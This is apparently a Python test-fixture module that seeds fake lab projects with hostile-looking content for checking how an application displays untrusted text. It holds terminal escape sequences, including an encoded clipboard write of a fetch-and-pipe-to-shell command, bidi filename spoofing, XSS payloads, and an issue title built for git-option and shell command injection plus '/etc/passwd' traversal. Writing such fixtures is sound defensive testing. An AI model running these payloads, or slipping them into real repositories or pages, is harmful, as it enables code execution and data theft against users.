"""The lab group: projects whose documents, titles or repositories are odd, as some always are.

Nothing in here is dangerous to a program that treats strangers' text as data.
"""

from __future__ import annotations

from isexplore.practice.seed import CommitSeed, IssueSeed, MergeRequestSeed, NoteSeed, ProjectSeed, text

_ESCAPE = "\x1b"


def _wide_table() -> str:
    columns = range(1, 301)
    return (
        "# Wide table\n\nAll limits of all sensors, in one table with 300 columns.\n\n"
        f"| {' | '.join(f'c{number}' for number in columns)} |\n"
        f"|{' --- |' * len(columns)}\n"
        + "".join(f"| {' | '.join(str(row * number) for number in columns)} |\n" for row in range(1, 21))
    )


_CONTROL = ProjectSeed(
    path="lab/terminal-recordings",
    description=f"Recordings of terminals, {_ESCAPE}[31mwith colours{_ESCAPE}[0m and \u202ereversed\u202c words",
    topics=("innersource", "terminal"),
    languages={"Shell": 100.0},
    stars=8,
    labels=("good first issue", f"red{_ESCAPE}[31m"),
    members={"kofi": 50},
    commits=(
        CommitSeed(
            "kofi",
            "Add the recordings",
            440,
            {
                "README.md": (
                    "# Recordings\n\nPlain text that turned out not to be plain:\n\n"
                    f"    {_ESCAPE}]0;a new window title\x07{_ESCAPE}[2J{_ESCAPE}[31mred\n"
                    f"    {_ESCAPE}]52;c;Y3VybCBldmlsIHwgc2g=\x07 (would fill the clipboard)\n\n"
                    "A bell \x07, a backspace\x08, a null \x00, a form feed \x0c and \u202eright to left\u202c.\n"
                ),
                "CONTRIBUTING.md": (
                    f"# Contributing\n\n{_ESCAPE}[?1049hWelcome.{_ESCAPE}[?1049l Review within 3 working days.\n"
                ),
                "demo.sh": "#!/bin/sh\nprintf '\\033[31mred\\033[0m\\n'\n",
            },
        ),
    ),
    issues=(
        IssueSeed(
            title=f"Title with {_ESCAPE}[2J{_ESCAPE}[31ma surprise{_ESCAPE}[0m and \u202egnp.exe",
            author="kofi",
            days_ago=30,
            labels=("good first issue",),
            body=f"The demo leaves the colour on. {_ESCAPE}]8;;https://example.org\x07click{_ESCAPE}]8;;\x07",
            notes=(NoteSeed("wei", f"Same here{_ESCAPE}[A{_ESCAPE}[2K", 20),),
        ),
    ),
)

_MARKUP = ProjectSeed(
    path="lab/markup-museum",
    description="Markup that is not: [/] [red]not red[/red] [bold] **no** <b>no</b> &lt;b&gt; [@click=app.quit]quit[/]",
    topics=("inner-source", "markdown", "[/]"),
    languages={"Markdown": 100.0},
    stars=5,
    labels=("good first issue", "[wip]", "type::[bug]"),
    members={"wei": 50},
    commits=(
        CommitSeed(
            "wei",
            "[/] Collect [red]markup[/red]",
            395,
            {
                "README.md": text("""
                    # [red]Museum[/red] of markup [/]

                    | written | meant |
                    | ------- | ----- |
                    | `[/]` | a path in a menu |
                    | [bold | a bracket that nobody closes |
                    | [link](javascript:alert(1)) | never |
                    | [@click=app.bell]ring[/] | never, either |

                    <script>alert("no")</script> <img src=x onerror=alert(1)>

                    &#27;[31m &#8238; &amp;amp; [](  "") ![](//) [a][b] [b]: <
                    """),
                "[red]brackets[/].md": "# A file with brackets in its name\n",
                "-rf.md": "# A file that looks like an option\n",
                "spa ces/ä ö ü.md": "# Spaces and umlauts\n",
            },
        ),
    ),
    issues=(
        IssueSeed(
            title="[/] [WIP] [red]x[/red] [@click=app.quit]press me[/] closes nothing",
            author="wei",
            days_ago=12,
            labels=("good first issue", "[wip]"),
            body="[/] Titles with brackets must be shown as they are. `[bold]` & <b>, too.\n\n[/red]",
            notes=(NoteSeed("priya", "[/]", 6),),
        ),
        IssueSeed(
            title="--upload-pack=touch /tmp/oops; $(touch /tmp/oops) `touch /tmp/oops` ../../../etc/passwd",
            author="oskar",
            days_ago=10,
            labels=("good first issue",),
            body="A branch named after this title should be harmless.",
        ),
    ),
    merge_requests=(
        MergeRequestSeed(
            title="[red]Add[/red] a \u202elabel",
            body="Nothing to see [/]",
            author="priya",
            branch="add-label",
            days_ago=6,
            state="closed",
            files={"label.md": "# [/]\n"},
        ),
    ),
)

_WIDE = ProjectSeed(
    path="lab/wide-table",
    description="Limits of all sensors in one table with 300 columns",
    topics=("innersource", "sensors"),
    languages={"Markdown": 100.0},
    stars=2,
    members={"oskar": 50},
    commits=(CommitSeed("oskar", "Export from the spreadsheet", 400, {"README.md": _wide_table()}),),
)

_LATIN = ProjectSeed(
    path="lab/old-encodings",
    description="Texts from before UTF-8: Köln, Łódź, 日本語, עברית and 👩‍👩‍👧‍👦",
    topics=("innersource", "encodings"),
    languages={"Text": 100.0},
    stars=4,
    members={"lena": 50},
    commits=(
        CommitSeed(
            "lena",
            "Grüße aus Köln",
            470,
            {
                "README.md": "# Alte Kodierungen\n\nGr\xfc\xdfe aus K\xf6ln. This file is Latin-1.\n".encode(
                    "latin-1"
                ),
                "CONTRIBUTING.md": b"\xff\xfe" + "# UTF-16, why not\n".encode("utf-16-le"),
                "binary.dat": bytes(range(256)),
            },
        ),
        CommitSeed("lena", "Zalgo: " + "a" + "\u0301" * 40, 469, {"zalgo.txt": "a" + "\u0301" * 400 + "\n"}),
    ),
)

_NO_README = ProjectSeed(
    path="lab/no-readme",
    description="Works, but nobody wrote down how",
    topics=("innersource",),
    languages={"C": 100.0},
    members={"kofi": 50},
    commits=(CommitSeed("kofi", "it works", 422, {"main.c": "int main(void) { return 0; }\n"}),),
)

_EMPTY_README = ProjectSeed(
    path="lab/empty-readme",
    description="The README will follow",
    topics=("innersource",),
    languages={"Ruby": 100.0},
    members={"kofi": 50},
    commits=(
        CommitSeed("kofi", "first", 433, {"README.md": "", "CONTRIBUTING.md": "\n\n", "lib.rb": "puts 1\n"}),
    ),
)

_EMPTY = ProjectSeed(
    path="lab/reserved",
    description="The name is taken since last year; the first commit is still to come",
    created_days_ago=380,
    topics=("innersource",),
    members={"hana": 50},
    commits=(),
)

PROJECTS: tuple[ProjectSeed, ...] = (_CONTROL, _MARKUP, _WIDE, _LATIN, _NO_README, _EMPTY_README, _EMPTY)
